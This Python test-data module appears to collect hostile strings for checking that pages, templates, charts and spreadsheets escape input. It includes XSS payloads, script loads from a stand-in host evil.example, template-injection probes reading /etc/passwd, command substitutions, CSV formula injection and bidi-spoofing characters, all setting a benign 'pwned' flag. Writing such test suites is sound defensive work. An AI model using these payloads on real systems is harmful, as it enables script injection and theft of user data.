"""Texts that would act if a page, a chart, a template or a spreadsheet took them for its own: each tries to set `pwned`."""

from __future__ import annotations

ACT = "window.pwned=1,document.title='pwned'"
_TAGS = """<script>{}</script>|</script><script>{}</script>|<ScRiPt>{}</sCrIpT>|<script src=//evil.example/x.js></script>
<script type=module>{}</script>|<img src=x onerror="{}">|<img src=x onerror={}>|<IMG SRC=x OnErRoR="{}">|<img/src/onerror={}>
<svg onload="{}">|<svg><script>{}</script></svg>|<svg><animate onbegin="{}" attributeName=x dur=1s></svg>
<svg><a xlink:href="javascript:{}"><text y=20>a</text></a></svg>|<svg><use href="data:image/svg+xml,<svg id=x onload={}>#x"/></svg>
<math><mtext><style><img src onerror="{}"></style></mtext></math>|<body onload="{}">|<iframe srcdoc="<script>parent.{}</script>"></iframe>
<iframe src="javascript:parent.{}"></iframe>|<object data="javascript:{}"></object>|<embed src="javascript:{}">
<details open ontoggle="{}">a</details>|<input autofocus onfocus="{}">|<video><source onerror="{}"></video>|<audio src=x onerror="{}">
<marquee onstart="{}">a</marquee>|<a href="javascript:{}">a</a>|<a href="jAvAsCrIpT:{}">a</a>|<a href="java&#x0A;script:{}">a</a>
<a href="data:text/html,<script>{}</script>">a</a>|<form action="javascript:{}"><button>a</button></form>|<button formaction="javascript:{}">a</button>
<meta http-equiv=refresh content="0;url=javascript:{}">|<base href="//evil.example/">|<link rel=stylesheet href=//evil.example/x.css>
<style>*{{display:none}}</style>|<style>@import "//evil.example/x.css"</style>|<template><script>{}</script></template>
<noscript><p title="</noscript><img src=x onerror={}>"></noscript>|<textarea></textarea><script>{}</script>|</textarea><img src=x onerror="{}">
</title><script>{}</script>|</style><script>{}</script>|</div></div></div><script>{}</script>|</p><h1 onclick="{}">a</h1>|<plaintext>|<xmp><script>{}</script>
<table><tr><td background="javascript:{}">|<div style="background:url(//evil.example/x.png)">a</div>|<div style="position:fixed;inset:0;z-index:9">a</div>
<p id=answer>a</p>|<p id="panel" class="tds-panel">a</p>|<img name=getElementById>|<form id=__proto__>|<a id=tdsExample name=tdsExample>a</a>
<!--|-->|<!-- <script>{}</script> -->|<!--><script>{}</script>|--!><script>{}</script>|<![CDATA[<script>{}</script>]]>|<?php echo 1 ?>|<!doctype html>"""
_BREAKERS = """" onmouseover="{}|' onmouseover='{}|" autofocus onfocus={} x="|`onmouseover={}`|"><script>{}</script>|'><script>{}</script>
\\"><script>{}</script>|";{};"|';{};'|`;{};`|${{{}}}|\\u003cscript\\u003e{}\\u003c/script\\u003e|\\x3cscript\\x3e{}\\x3c/script\\x3e
}};{};//|]}};{};var a=[{{|*/{};/*|//\\n{}|eval("{}")|constructor.constructor("{}")()|\\|\\\\|\\"|\\u|\\u{{110000}}|\\x|"}}|{{"a": 1}}|[[[|]]]|null|undefined|NaN|__proto__|toString
&lt;script&gt;{}&lt;/script&gt;|&#60;script&#62;{}&#60;/script&#62;|&amp;lt;b&amp;gt;|&#x26;#x3c;|&nbsp;&shy;&zwnj;|&#0;|&#xD800;|&notanentity;|&|&&&|%3Cscript%3E{}%3C/script%3E|+ADw-script+AD4-{}+ADw-/script+AD4-"""
_TEMPLATES = """{{{{ 7*7 }}}}|{{{{ config.__class__ }}}}|{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}|{{% raw %}}|{{% endraw %}}|{{% include "/etc/passwd" %}}
{{% for a in range(9) %}}|{{# a comment #}}|{{{{|}}}}|{{%|%}}|#{{7*7}}|<%= 7*7 %>|[[7*7]]|@(7*7)|$(touch x)|`touch x`
{{{{ page.url }}}}|{{{{ super() }}}}|{{% extends "main.html" %}}|{{{{ cycler.__init__.__globals__.os }}}}|{{prompt}}|%s %d %n|{{0.__class__}}|$x $$x"""
_MARKDOWN = """# heading|## heading {{: onclick="{}" }}|- item|* item|1. item|> quote|---|***|```|~~~|    indented|\tindented|**bold** __bold__ _it_ ~~gone~~
`code`|[a](javascript:{})|![a](x" onerror="{})|[a]: javascript:{}|[a][b]|<javascript:{}>|<https://evil.example>|https://evil.example/|www.evil.example
| a | b ||*[HTML]: x|[^1]: note|{{: .class #id onclick="{}" }}|::: note|!!! danger|??? note|--8<-- "/etc/passwd"|$$x$$|:smile:|[TOC]|[[wiki]]|^sup^ ==mark==|a  \nb|a\\\nb
a\n===|a\n---|title: stolen|---\ntitle: stolen\n---|hide: [navigation]|search:\n  exclude: true|<div markdown="1">|{{{{ toc }}}}"""
_TABLES = """=HYPERLINK("http://evil.example","a")|=cmd|' /C calc'!A0|+1+1|-1+1|@SUM(1)|=1+1|\t=1+1|"a","b"|a,b;c|'=1+1|{{=1+1}}"""
_VEGA = """datum.value|signal('x')|{{"signal": "1"}}|{{"expr": "window"}}|format(datum, 'x')|datum["a"]|datum\\.value|a.b[0]|['a']|mailto:a@b|data:text/html,x"""
_LETTERS = (
    "\u202egnp.exe\u202c", "\u202a\u202b\u202d\u2066\u2067\u2068", "\u200b\u200c\u200d\ufeff", "\u2028\u2029", "\u00a0\u2003\u3000", "\u0301" * 80,
    "\x01\x02\x07\x08\x0b\x0c\x0e\x1b[2J\x1b]0;pwned\x07", "\x7f\x80\x85\x9f", "a\rb\r\nc\nd", "\n\n\n", "\t\t\t", "\ufffe\uffff\ufffd", "\U0010ffff\U000e0001",
    "🏳️‍🌈👩‍👩‍👧‍👦🇩🇪", "x" * 5000, "W" * 300 + " " + "i" * 300, "天地玄黄宇宙洪荒" * 60, "עברית العربية فارسی", "A\u0308\u0327é", "ﷺ" * 20, "𝕳𝖊𝖑𝖑𝖔", "İıſK",
    "a" + " " * 300 + "b", "/" * 400, "http://" + "a" * 400, "-" * 400, "_" * 400, "a-" * 300, "\u00ad" * 50, "\ue000\ue001", "＜script＞", "‹script›",
)  # fmt: skip


def _of(block: str) -> list[str]:
    """A block's texts, one for each line and each stroke between letters that no text of it needs itself."""
    texts = [text for line in block.splitlines() for text in line.split("|")]
    return [text.replace("{{", "{").replace("}}", "}").replace("{}", ACT) for text in texts if text.strip(" ")]


def _unescaped(block: str) -> list[str]:
    return [text.replace("\\n", "\n") for text in _of(block)]


STRINGS: tuple[str, ...] = tuple(
    dict.fromkeys([
        *(text for block in (_TAGS, _BREAKERS, _TEMPLATES, _MARKDOWN, _TABLES, _VEGA) for text in _unescaped(block)),
        "| a | b |\n|---|---|\n| <script>" + ACT + "</script> | |",
        *_LETTERS,
    ])
)  # fmt: skip
